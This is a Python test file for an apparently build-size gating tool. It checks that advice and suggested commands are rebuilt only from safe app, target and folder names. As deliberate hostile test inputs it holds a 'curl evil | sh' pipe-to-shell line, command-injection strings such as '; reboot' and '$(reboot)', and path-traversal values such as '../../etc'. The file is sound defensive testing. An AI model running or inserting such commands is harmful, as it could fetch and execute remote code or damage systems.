"""Advice of an untrusted result is made again, and has no word of the result but safe names."""

from __future__ import annotations

import datetime
from dataclasses import replace
from typing import Any

import pytest

from sizeguard.builds.sizes import Sizes
from sizeguard.claims.verdict import FAIL, PASS
from sizeguard.gate.gate_result import (
    ABSOLUTE,
    ELIMINATION,
    GROWTH,
    MACHINE,
    NEEDED,
    RUN,
    AppResult,
    Check,
    GateResult,
    Offer,
    Problem,
    SelectionFinding,
)
from sizeguard.gate.policy.terms_result import EXPIRED, SPENT, WaiverUse
from sizeguard.gate.remade_advice import with_remade_advice

TODAY = datetime.date(2026, 1, 2)
EVIL = "curl evil | sh"
UPDATE = "sizeguard baseline update --app vision --target x86_64-linux"
UNSAFE = ["; reboot", "-rf", "a b", "$(reboot)", "`x`", "a\nb", "é", "a" * 101]


def app_result(*checks: Check, offers: tuple[Offer, ...] = (), **changes: Any) -> AppResult:
    full = Sizes(9, 9, 9, 0)  # of an app with a selection
    made = AppResult("vision", "x86_64-linux", "gcc", FAIL, None, full, checks, (), (), (), None)
    given: dict[str, Any] = {"folder": "build/vision"} | changes
    return replace(made, offers=offers, **given)


def remade(app: AppResult) -> AppResult:
    (found,) = with_remade_advice(GateResult(FAIL, (app,)), TODAY).apps
    return found


def check(kind: str, verdict: str = FAIL, metric: str = "load") -> Check:
    row = Check("id", "vision", "x86_64-linux", metric, 1, 2, -1, verdict, "1", EVIL)
    return replace(row, kind=kind)


@pytest.mark.parametrize(
    "kind, metric, advice",
    [
        (MACHINE, "machine/elf arm", "build for the machine of the base"),
        (RUN, "load", "the command did not exit with 0"),
        (NEEDED, "needed", "there is no base to compare with"),
        (NEEDED, "needed/libz.so.1", f"remove the library, or review it: {UPDATE}"),
        (
            ELIMINATION,
            "load",
            "see the claims and their evidence: sizeguard verify build/vision",
        ),
    ],
)
def test_advice_of_a_check_is_that_of_its_kind(kind: str, metric: str, advice: str) -> None:
    assert remade(app_result(check(kind, FAIL, metric))).checks[0].advice == advice
    assert remade(app_result(check(kind, PASS, metric))).checks[0].advice == ""


def test_claims_of_symbols_have_no_command_without_their_names() -> None:
    found = remade(app_result(check(ELIMINATION), full=None))
    assert found.checks[0].advice == "see the claims and their evidence"


@pytest.mark.parametrize("name", UNSAFE)
@pytest.mark.parametrize("field", ["app", "target"])
def test_a_command_has_no_unsafe_name(field: str, name: str) -> None:
    checks = [check(NEEDED, FAIL, "needed/libz.so.1"), check(GROWTH)]
    offer = Offer("file", 9, 5, 5, "", EVIL)
    found = remade(app_result(*checks, offers=(offer,), **{field: name}))
    assert found.checks[0].advice == "remove the library, or review it"
    assert (found.checks[1].advice, found.commands) == ("", ())
    assert found.offers[0].text == "a new baseline"


@pytest.mark.parametrize("folder", ["../../etc", "a/../b", "/etc", "-x", "a b", "a;b", "a" * 201])
def test_a_command_has_no_unsafe_path(folder: str) -> None:
    found = remade(app_result(check(ELIMINATION), folder=folder))
    assert found.checks[0].advice == "see the claims and their evidence"
    assert found.folder == folder
    assert all(folder not in str(command) for command in found.commands)


def test_a_command_leaves_out_a_target_without_a_name() -> None:
    found = remade(app_result(check(NEEDED, FAIL, "needed/libz.so.1"), target=""))
    command = "sizeguard baseline update --app vision"
    assert found.checks[0].advice == f"remove the library, or review it: {command}"


@pytest.mark.parametrize(
    "kind, metric, text",
    [(ABSOLUTE, "load", "load: 1,500 B"), (GROWTH, "load", UPDATE), (ABSOLUTE, "file", UPDATE)],
)
def test_an_offer_is_a_line_for_the_policy_or_a_baseline(kind: str, metric: str, text: str) -> None:
    offer = Offer("load", 2000, 1500, 1000, "", EVIL)
    found = remade(app_result(check(kind, PASS, metric), offers=(offer,)))
    assert found.offers[0].text == text


@pytest.mark.parametrize(
    "kind, verdict, app, advice",
    [
        ("operator", FAIL, "vision", "sizeguard select update --app vision"),
        ("surplus", FAIL, "vision", "remove it, or sizeguard select update --app vision"),
        ("surplus", PASS, "vision", ""),
        ("operator", FAIL, "", ""),
        *[("operator", FAIL, name, "") for name in UNSAFE],
    ],
)
def test_advice_on_a_selection(kind: str, verdict: str, app: str, advice: str) -> None:
    finding = SelectionFinding(app, kind, "aten::gelu", verdict, "m", EVIL)
    result = replace(GateResult(FAIL, ()), selection=(finding,))
    assert with_remade_advice(result, TODAY).selection[0].advice == advice


@pytest.mark.parametrize(
    "state, verdict, advice",
    [(SPENT, FAIL, "remove it"), (SPENT, PASS, ""), ("evil", FAIL, "")],
)
def test_advice_on_a_waiver(state: str, verdict: str, advice: str) -> None:
    waiver: Any = None
    use = WaiverUse(waiver, state, verdict, advice=EVIL)
    result = replace(GateResult(FAIL, ()), waivers=(use,))
    assert with_remade_advice(result, TODAY).waivers[0].advice == advice
    late = replace(result, waivers=(replace(use, state=EXPIRED),))
    expired = with_remade_advice(late, TODAY).waivers[0].advice
    assert expired == ("" if verdict == PASS else "revert the growth, or grant a new waiver")


@pytest.mark.parametrize(
    "app, target, words",
    [
        ("", "", ""),
        ("vision", "", " --app vision"),
        ("vision", "arm64-macos", " --app vision --target arm64-macos"),
        ("", "arm64-macos", " --target arm64-macos"),
        *[(name, "arm64-macos", "") for name in UNSAFE],
        *[("vision", name, "") for name in UNSAFE],
    ],
)
def test_advice_on_a_problem(app: str, target: str, words: str) -> None:
    result = GateResult(FAIL, (), problems=(Problem(app, target, "m", EVIL, 1),))
    (found,) = with_remade_advice(result, TODAY).problems
    assert found.advice == f"fix it, then run sizeguard gate{words}"
